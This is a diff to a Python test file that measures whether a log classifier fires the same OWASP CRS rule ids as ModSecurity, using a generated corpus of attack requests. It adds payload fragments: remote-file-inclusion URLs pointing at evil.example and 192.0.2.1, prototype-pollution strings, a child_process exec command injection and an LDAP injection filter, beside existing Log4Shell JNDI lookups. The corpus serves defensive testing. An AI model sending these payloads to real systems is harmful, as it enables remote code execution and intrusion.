@@ -2,7 +2,8 @@
 ModSecurity 2.9 running the vendored OWASP CRS (tests/modsecurity.py) and through
 `secmon.core.classify.crs`, and the CRS rule ids that fire on each must agree.
 
-The corpus: payloads hypothesis composes from attack fragments and encodings, placed in the path, the
+The corpus: payloads hypothesis composes from attack fragments (the families CRS has that an access log
+shows) and encodings, placed in the path, the
 query, the User-Agent and the Referer; the producer's attack traffic; and benign look-alikes from real
 sites. Agreement is |ids both fired| / |ids either fired|, summed over the requests Apache let through,
 on the rules the classifier loads; the ids ModSecurity fired on rules the classifier does not load are
@@ -118,6 +119,21 @@ FRAGMENTS = {
         "${jndi:ldap://evil.example/a}",
         "${${lower:j}ndi:rmi://evil.example/a}",
         "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}",
+    ),
+    "remote file": (
+        "http://evil.example/shell.txt?",
+        "ftp://192.0.2.1/x.php",
+        "https://192.0.2.1/backdoor.php",
+    ),
+    "node": (
+        "__proto__[admin]=1",
+        "constructor[prototype][isAdmin]=true",
+        "require('child_process').exec('id')",
+    ),
+    "session and ldap": (
+        ";jsessionid=0123456789abcdef",
+        "PHPSESSID=attacker",
+        "*)(uid=*))(|(uid=*",
     ),
     "benign": (
         "union station",
@@ -364,14 +380,16 @@ def oracle(tmp_path_factory) -> tuple[list[Request], dict[int, list[frozenset[st
 
 def test_the_oracle_sees_what_apache_lets_through(oracle):
     """The harness itself: the request DESIGN.md checked by hand fires 942100, a target with a space or
-    of 12 kB never reaches ModSecurity, and the corpus mostly does (else agreement would be measured on nothing)."""
+    of 12 kB never reaches ModSecurity, and the corpus mostly does and makes many rules fire (else agreement
+    would be measured on little)."""
     requests, verdicts = oracle
     fired = dict(zip(requests, verdicts[1]))
     assert "942100" in fired[INJECTION]
     assert fired[SPACED] is None and fired[LONG] is None
     examined = [fired for fired in verdicts[1] if fired is not None]
     assert len(examined) >= 0.75 * len(requests)
-    assert sum(1 for fired in examined if fired) >= 0.5 * len(examined)
+    assert sum(1 for fired in examined if fired) >= len(examined) / 3
+    assert len(set().union(*examined)) >= 40  # distinct rules: the corpus reaches across CRS's families
 
 
 def test_secmon_fires_the_crs_rules_modsecurity_fires_at_paranoia_level_1(oracle):
